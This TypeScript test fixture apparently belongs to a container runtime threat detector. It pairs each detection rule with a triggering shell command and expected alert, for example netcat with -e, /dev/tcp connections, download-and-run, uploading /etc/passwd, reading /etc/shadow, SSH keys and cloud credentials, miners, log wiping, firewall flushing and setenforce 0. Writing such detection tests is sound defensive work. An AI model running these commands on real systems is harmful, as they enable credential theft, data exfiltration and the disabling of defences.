export interface Behaviour {
  readonly rule: string;
  /** The behaviour itself, a line or more of sh. */
  readonly act: string;
  /** What the alert has to say. */
  readonly says: string | RegExp;
  /** Of the process that the alert is about. */
  readonly comm: string;
  /** Also what happens besides matches, and is combined with the alert. */
  readonly isRepeated?: boolean;
  /** The behaviour whose process, or a descendant of it, the alert is about, where `act` is none itself. */
  readonly by?: string;
  /** Other rules that it breaks too. */
  readonly also?: readonly string[];
}

/** What performs them all. */
export const SCRIPT = 'the script';

/** In a container as `docker run` makes it. */
export const ordinary: readonly Behaviour[] = [
  {
    rule: 'shell-attached-to-network',
    act: 'behaviour reverse-shell 4001',
    comm: 'sh',
    says: 'takes its commands from the network',
  },
  {
    rule: 'web-server-starts-program',
    act: 'nginx do spawn /bin/id',
    comm: 'id',
    says: 'web server nginx started /bin/busybox as user 0: /bin/id',
  },
  {
    rule: 'database-starts-program',
    act: 'postgres do spawn /bin/id',
    comm: 'id',
    says: 'database postgres started /bin/busybox',
  },
  {
    rule: 'application-server-starts-shell',
    act: 'java do spawn /bin/sh -c :',
    comm: 'sh',
    says: 'application server java started a shell',
  },
  {
    rule: 'shell-opens-connection',
    act: 'bash -c "echo > /dev/tcp/127.0.0.1/9"',
    comm: 'bash',
    says: 'connected to 127.0.0.1:9 = ECONNREFUSED',
  },
  {
    rule: 'netcat-starts-program',
    act: 'nc 127.0.0.1 9 -e /bin/id',
    comm: 'nc',
    says: 'nc 127.0.0.1 9 -e /bin/id',
    also: ['network-tool-started'],
  },
  { rule: 'inline-script-opens-socket', act: 'python3 -c "import socket"', comm: 'python3', says: 'import socket' },
  {
    rule: 'inline-script-connects',
    act: 'python3 do connect 127.0.0.1 9 -c',
    comm: 'python3',
    says: 'connected to 127.0.0.1:9',
  },
  { rule: 'program-from-memory', act: 'behaviour memory-program', comm: 'memfd:payload', says: '/memfd:payload' },
  { rule: 'deleted-program', act: 'behaviour deleted-program', comm: 'gone', says: '/root/gone' },
  {
    rule: 'program-in-shared-memory',
    act: 'behaviour copy /dev/shm/p; /dev/shm/p',
    comm: 'bash',
    says: '/dev/shm/p = EACCES',
  },
  { rule: 'program-in-temporary-directory', act: '/var/tmp/q', comm: 'q', says: '/var/tmp/q' },
  { rule: 'hidden-program', act: '/root/.h', comm: '.h', says: '/root/.h' },
  { rule: 'encoded-payload-decoded', act: 'echo aWQ= | base64 -d', comm: 'base64', says: 'base64 decodes data' },
  {
    rule: 'download-and-run',
    act: 'bash -c "wget -q http://127.0.0.1:9/x; chmod 700 /root/got; /root/got"',
    comm: 'got',
    says: '/root/got was started after a download',
  },
  {
    rule: 'web-server-writes-script',
    act: 'php-fpm do create /root/shell.php 644',
    comm: 'php-fpm',
    says: 'php-fpm wrote the script /root/shell.php',
  },
  { rule: 'miner-started', act: 'xmrig -o stratum+tcp://127.0.0.1:9', comm: 'xmrig', says: 'xmrig' },
  { rule: 'attack-tool-started', act: 'lazagne all', comm: 'lazagne', says: 'the tool lazagne' },
  {
    rule: 'container-client-in-container',
    act: 'docker ps',
    comm: 'docker',
    says: 'the container client docker was started',
  },
  {
    rule: 'file-made-executable',
    act: 'echo > /tmp/tool; chmod 755 /tmp/tool',
    comm: 'chmod',
    says: 'chmod made /tmp/tool executable (rwxr-xr-x)',
  },
  {
    rule: 'executable-created',
    act: 'behaviour create /root/tool 755',
    comm: 'behaviour',
    says: 'behaviour created the executable /root/tool',
  },
  {
    rule: 'system-binary-changed',
    act: 'echo > /bin/new',
    comm: 'bash',
    says: 'bash wrote the system program /bin/new',
  },
  {
    rule: 'password-file-read',
    act: 'cat /etc/shadow',
    comm: 'cat',
    says: 'cat read the password file /etc/shadow as user 0',
  },
  {
    rule: 'password-file-refused',
    act: 'behaviour user cat /etc/shadow',
    comm: 'cat',
    says: 'cat tried to open /etc/shadow as user 1000: EACCES',
  },
  { rule: 'private-key-read', act: 'cat /root/.ssh/id_rsa', comm: 'cat', says: '/root/.ssh/id_rsa' },
  { rule: 'cloud-credentials-read', act: 'cat /root/.aws/credentials', comm: 'cat', says: '/root/.aws/credentials' },
  {
    rule: 'service-account-token-read',
    act: 'cat /run/secrets/kubernetes.io/serviceaccount/token',
    comm: 'cat',
    says: '/token',
  },
  {
    rule: 'environment-of-process-read',
    act: 'cat /proc/1/environ',
    comm: 'cat',
    says: /cat read the environment \/proc\/\d+\/environ/,
  },
  {
    rule: 'search-for-credentials',
    act: 'grep -r "BEGIN RSA PRIVATE" /var/tmp',
    comm: 'grep',
    says: 'BEGIN RSA PRIVATE',
  },
  {
    rule: 'cron-changed',
    act: 'echo > /var/spool/cron/crontabs/root',
    comm: 'bash',
    says: 'bash wrote the cron file /var/spool/cron/crontabs/root',
  },
  {
    rule: 'authorized-keys-changed',
    act: 'echo >> /root/.ssh/authorized_keys',
    comm: 'bash',
    says: '/root/.ssh/authorized_keys',
  },
  { rule: 'shell-configuration-changed', act: 'echo >> /root/.profile', comm: 'bash', says: '/root/.profile' },
  { rule: 'accounts-managed', act: 'useradd mallory', comm: 'useradd', says: 'useradd mallory' },
  {
    rule: 'account-file-changed',
    act: 'echo >> /etc/sudoers',
    comm: 'bash',
    says: 'bash wrote the account file /etc/sudoers',
  },
  {
    rule: 'service-unit-changed',
    act: 'echo > /etc/systemd/system/x.service',
    comm: 'bash',
    says: '/etc/systemd/system/x.service',
  },
  {
    rule: 'loader-preload-changed',
    act: ': > /etc/ld.so.preload; rm /etc/ld.so.preload',
    comm: 'bash',
    says: '/etc/ld.so.preload',
  },
  { rule: 'loader-variable-used', act: 'env LD_PRELOAD=/root/x.so id', comm: 'env', says: 'LD_PRELOAD=/root/x.so' },
  { rule: 'login-module-changed', act: 'echo >> /etc/pam.d/su', comm: 'bash', says: '/etc/pam.d/su' },
  // The next one listens too.
  {
    rule: 'tool-listens',
    act: 'ksh93 do listen 4002',
    comm: 'ksh93',
    says: 'listens on 0.0.0.0:4002',
    isRepeated: true,
  },
  {
    rule: 'connection-to-tool',
    act: 'ksh93 do accept 4002',
    comm: 'ksh93',
    says: 'accepted a connection from 127.0.0.1',
  },
  {
    rule: 'mining-pool-looked-up',
    act: 'behaviour ask xmr-eu1.nanopool.org 1',
    comm: 'behaviour',
    says: 'looked up xmr-eu1.nanopool.org',
  },
  { rule: 'mining-port-contacted', act: 'behaviour accept 3333', comm: 'peer', says: '127.0.0.1:3333' },
  {
    rule: 'port-scan',
    act: 'behaviour scan',
    comm: 'behaviour',
    says: /tried at least 20 ports of 127\.0\.0\.1 within 10 s, the last 20020 = ECONNREFUSED/,
  },
  {
    rule: 'network-sweep',
    act: 'behaviour sweep',
    comm: 'behaviour',
    says: 'tried port 22222 of at least 40 addresses',
  },
  {
    rule: 'dns-many-unknown-names',
    act: 'behaviour guess',
    comm: 'behaviour',
    says: /at least 30 names .* the last qx29zk\.example/,
  },
  { rule: 'dns-tunnel', act: 'behaviour tunnel', comm: 'behaviour', says: 'at least 10 long names' },
  {
    rule: 'dns-record-transfer',
    act: 'behaviour ask example 252',
    comm: 'behaviour',
    says: 'asked for AXFR of example at 127.0.0.1',
  },
  {
    rule: 'kubernetes-api-contacted',
    act: 'behaviour connect 127.0.0.1 6443',
    comm: 'behaviour',
    says: '127.0.0.1:6443 = ECONNREFUSED',
  },
  {
    rule: 'raw-socket-opened',
    act: 'behaviour raw',
    comm: 'behaviour',
    says: 'behaviour opened a raw or packet socket',
  },
  { rule: 'network-tool-started', act: 'nmap -sS 10.0.0.0/8', comm: 'nmap', says: 'nmap -sS 10.0.0.0/8' },
  { rule: 'copy-tool-started', act: 'rsync -a / there:', comm: 'rsync', says: 'rsync -a / there:' },
  { rule: 'file-uploaded', act: 'curl -T /etc/passwd http://127.0.0.1/', comm: 'curl', says: 'curl -T /etc/passwd' },
  { rule: 'ssh-client-started', act: 'ssh there', comm: 'ssh', says: 'ssh there' },
  {
    rule: 'anonymous-network-used',
    act: 'behaviour connect 127.0.0.1 9050',
    comm: 'behaviour',
    says: '127.0.0.1:9050',
  },
  { rule: 'file-system-debugger-started', act: 'debugfs /dev/sda', comm: 'debugfs', says: 'debugfs /dev/sda' },
  {
    rule: 'release-agent-changed',
    act: 'mkdir /root/cg; : >> /root/cg/release_agent',
    comm: 'bash',
    says: '/root/cg/release_agent',
  },
  { rule: 'engine-socket-used', act: 'behaviour unix /shared/docker.sock', comm: 'behaviour', says: '/docker.sock' },
  {
    rule: 'descriptor-passed-with-host',
    act: 'behaviour receive /shared/pass',
    comm: 'behaviour',
    says: 'passed (fd receive) (unreachable)',
  },
  {
    rule: 'descriptor-passed-across-containers',
    act: 'behaviour receive /shared/across',
    comm: 'behaviour',
    says: /^behaviour was passed \(unreachable\)\/bin\/behaviour by behaviour of container third, as user 0 in container web$/,
  },
  { rule: 'root-changed', act: 'chroot /', comm: 'chroot', says: 'chroot changed its root to /' },
  {
    rule: 'setuid-bit-set',
    act: 'chmod 4755 /root/s',
    comm: 'chmod',
    says: 'chmod set the mode of /root/s to rwsr-xr-x',
  },
  { rule: 'setuid-file-created', act: 'behaviour create /root/s2 4711', comm: 'behaviour', says: '/root/s2' },
  {
    rule: 'file-capability-set',
    act: 'behaviour capable-file /root/s',
    comm: 'behaviour',
    says: 'gave capabilities to /root/s',
  },
  {
    rule: 'root-without-sudo',
    act: 'behaviour become-root',
    comm: 'behaviour',
    says: 'behaviour became root, was user 1000',
  },
  { rule: 'capabilities-gained', act: 'behaviour raise', comm: 'behaviour', says: 'CAP_CHOWN' },
  {
    rule: 'privilege-program-in-container',
    act: 'behaviour user sh -c "sudo id; true"',
    comm: 'sudo',
    says: 'the privilege program sudo was started by sh as user 1000: sudo id',
  },
  {
    rule: 'pkexec-without-arguments',
    act: 'behaviour as /bin/pkexec',
    comm: 'pkexec',
    says: 'pkexec was started without arguments',
  },
  { rule: 'sudo-exploit', act: "sudoedit -s 'x\\'", comm: 'sudoedit', says: 'sudoedit -s' },
  {
    rule: 'system-calls-refused',
    act: 'behaviour refused',
    comm: 'behaviour',
    says: 'at least 5 different system calls were refused',
  },
  { rule: 'debugger-looked-for', act: 'behaviour trace-me', comm: 'behaviour', says: 'asked to be traced by bash' },
  { rule: 'history-tampered', act: ': > /root/.bash_history', comm: 'bash', says: '/root/.bash_history' },
  { rule: 'log-tampered', act: 'rm /var/log/auth.log', comm: 'rm', says: '/var/log/auth.log' },
  {
    rule: 'sensitive-file-linked',
    act: 'ln -s /etc/shadow /root/notes',
    comm: 'ln',
    says: '/root/notes a link to /etc/shadow (symlink)',
  },
  { rule: 'hidden-file-created', act: 'mkdir /tmp/.cache-x', comm: 'mkdir', says: 'mkdir created /tmp/.cache-x' },
  {
    rule: 'posing-as-kernel-thread',
    act: "behaviour as /bin/behaviour '[kworker/0:1]'",
    comm: 'behaviour',
    says: '[kworker/0:1]',
  },
  {
    rule: 'security-program-stopped',
    act: 'auditd do sleep 20000 & sleep 0.2; kill -9 $!',
    comm: 'bash',
    says: 'bash sent SIGKILL to auditd',
  },
  { rule: 'firewall-changed', act: 'iptables -F', comm: 'iptables', says: 'iptables -F' },
  { rule: 'protection-switched-off', act: 'setenforce 0', comm: 'setenforce', says: 'setenforce 0' },
  { rule: 'data-wiped', act: 'shred -u /root/x', comm: 'shred', says: 'shred -u /root/x' },
];

/** In a privileged container that sees the processes of the host. */
export const privileged: readonly Behaviour[] = [
  {
    rule: 'cloud-metadata-contacted',
    act: 'ip addr add 169.254.169.254/32 dev lo; behaviour connect 169.254.169.254 80',
    comm: 'behaviour',
    says: '169.254.169.254:80 = ECONNREFUSED',
  },
  {
    rule: 'file-system-mounted',
    act: 'mkdir /root/m; mount -t tmpfs none /root/m',
    comm: 'mount',
    says: 'mount mounted tmpfs none on /root/m',
  },
  {
    rule: 'disk-mounted',
    act: 'mount -t ext4 /dev/no-such-disk /root/m',
    comm: 'mount',
    says: '/dev/no-such-disk on /root/m = ENOENT',
  },
  {
    rule: 'kernel-file-system-mounted',
    act: 'mount -t debugfs none /root/m && umount /root/m',
    comm: 'mount',
    says: 'debugfs on /root/m',
  },
  {
    rule: 'device-file-made',
    act: 'mknod /root/disk b 7 0',
    comm: 'mknod',
    says: 'mknod made the device /root/disk (7:0)',
  },
  // The kernel asks more than once.
  { rule: 'disk-opened', act: 'head -c 0 /root/disk', comm: 'head', says: '(7:0)', isRepeated: true },
  {
    rule: 'file-of-other-container',
    act: 'cat /proc/$HOST_PID/root/etc/hostname',
    comm: 'cat',
    says: '(unreachable)/etc/hostname',
  },
  {
    rule: 'kernel-helper-changed',
    act: ': >> /proc/sys/kernel/core_pattern',
    comm: 'bash',
    says: '/proc/sys/kernel/core_pattern',
  },
  {
    rule: 'parameter-written',
    act: 'sysctl -w net.ipv4.ip_default_ttl=63',
    comm: 'sysctl',
    says: 'net/ipv4/ip_default_ttl from 64 to 63',
  },
  {
    rule: 'hardening-parameter-written',
    act: 'sysctl -w kernel.randomize_va_space=$(cat /proc/sys/kernel/randomize_va_space)',
    comm: 'sysctl',
    says: 'kernel/randomize_va_space',
  },
  { rule: 'namespace-joined', act: 'behaviour join', comm: 'behaviour', says: 'behaviour joined net:[' },
  { rule: 'namespace-created', act: 'unshare -m true', comm: 'unshare', says: 'CLONE_NEWNS' },
  { rule: 'user-namespace-created', act: 'unshare -U true', comm: 'unshare', says: 'CLONE_NEWUSER' },
  {
    rule: 'kernel-module-loaded-in-container',
    act: 'behaviour module',
    comm: 'behaviour',
    says: 'loaded a kernel module',
  },
  { rule: 'kernel-module-unloaded', act: 'behaviour remove-module', comm: 'behaviour', says: 'no_such_module' },
  { rule: 'bpf-used-in-container', act: 'behaviour bpf', comm: 'behaviour', says: 'BPF_PROG_LOAD' },
  { rule: 'kernel-replaced', act: 'behaviour kexec', comm: 'behaviour', says: 'loaded another kernel' },
  { rule: 'kernel-memory-read', act: ': > /dev/mem', comm: 'bash', says: '/dev/mem' },
  { rule: 'kernel-symbols-read', act: 'head -c 1 /proc/kallsyms', comm: 'head', says: '/proc/kallsyms' },
  {
    rule: 'system-request-triggered',
    act: 'mkdir /root/proc; : > /root/proc/sysrq-trigger',
    comm: 'bash',
    says: '/proc/sysrq-trigger',
  },
  { rule: 'io-uring-used', act: 'behaviour uring', comm: 'behaviour', says: 'set up io_uring' },
  { rule: 'process-traced', act: 'behaviour trace', comm: 'behaviour', says: 'PTRACE_ATTACH' },
  {
    rule: 'process-memory-written',
    act: 'behaviour write-memory',
    comm: 'behaviour',
    says: /wrote the memory of behaviour \d+ as user 0/,
  },
  {
    rule: 'process-memory-read',
    act: 'behaviour read-memory',
    comm: 'behaviour',
    says: /read the memory of behaviour \d+ as user 0/,
  },
  { rule: 'descriptor-taken', act: 'behaviour take-descriptor', comm: 'behaviour', says: 'of behaviour' },
  { rule: 'page-faults-handled', act: 'behaviour page-faults', comm: 'behaviour', says: 'called userfaultfd' },
];

/** With a terminal. */
export const atTerminal: readonly Behaviour[] = [
  {
    rule: 'terminal-shell-in-container',
    act: ':',
    by: SCRIPT,
    comm: 'bash',
    says: 'shell bash with a terminal was started by',
  },
  {
    rule: 'packages-installed-by-hand',
    act: 'apk add strace',
    comm: 'apk',
    says: 'the package manager apk was started by bash as user 0: apk add strace',
  },
];

const NEW_PROGRAM = 'program-new-to-image';

/** Of an image that was watched for long enough already, and did nothing. */
export const unusual: readonly Behaviour[] = [
  {
    rule: NEW_PROGRAM,
    act: 'behaviour accept 81 127.0.0.5',
    comm: 'behaviour',
    says: '/bin/behaviour is new to the image',
  },
  {
    rule: 'listening-port-new-to-image',
    act: ':',
    by: NEW_PROGRAM,
    comm: 'behaviour',
    says: 'behaviour listens on 0.0.0.0:81',
  },
  {
    rule: 'outbound-port-new-to-image',
    act: ':',
    by: NEW_PROGRAM,
    comm: 'peer',
    says: 'connected to 127.0.0.1:81, a port new to the image',
  },
  {
    rule: 'inbound-port-new-to-image',
    act: ':',
    by: NEW_PROGRAM,
    comm: 'behaviour',
    says: 'accepted a connection from 127.0.0.5 on port 81',
  },
];

/**
 * One script for bash that does them all, one after the other, each in a shell of its own. In `started` it writes when each of these
 * shells was started, and it itself.
 */
export function scriptOf(behaviours: readonly Behaviour[], started: string, { terminal = false } = {}): string {
  const redirected = terminal ? '' : '</dev/null';
  const tell = (name: string): string =>
    `read -r stat < /proc/$BASHPID/stat; set -- \${stat##*) }; echo "\${20} ${name}" >> ${started}; set --`;
  return [
    tell(SCRIPT),
    ...behaviours.map(({ rule, act }) => `( ${tell(rule)}; ${act} ) ${redirected} >/dev/null 2>&1`),
    'true\n',
  ].join('\n');
}

/** By their names, in clock ticks since boot (proc_pid_stat(5)), of what `scriptOf` made. */
export function startsOf(text: string): ReadonlyMap<string, number> {
  return new Map(
    text
      .trim()
      .split('\n')
      .map((line) => [line.slice(line.indexOf(' ') + 1), Number.parseInt(line, 10)]),
  );
}
